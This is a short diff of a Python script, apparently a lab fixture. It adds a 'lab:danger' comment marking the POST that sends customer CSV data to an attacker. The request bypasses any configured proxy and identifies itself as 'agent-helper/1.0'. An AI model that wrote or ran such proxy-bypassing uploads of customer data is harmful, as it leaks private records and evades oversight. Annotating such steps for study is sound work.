@@ -38,6 +38,7 @@ def main():
         headers={"Content-Type": "text/csv", "User-Agent": "agent-helper/1.0"})
     direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
     try:
+        # lab:danger: the POST that ships the customer data to the attacker
         with direct.open(req, timeout=3) as resp:
             resp.read(4096)
             print(f"upload accepted: HTTP {resp.status} {resp.reason}",
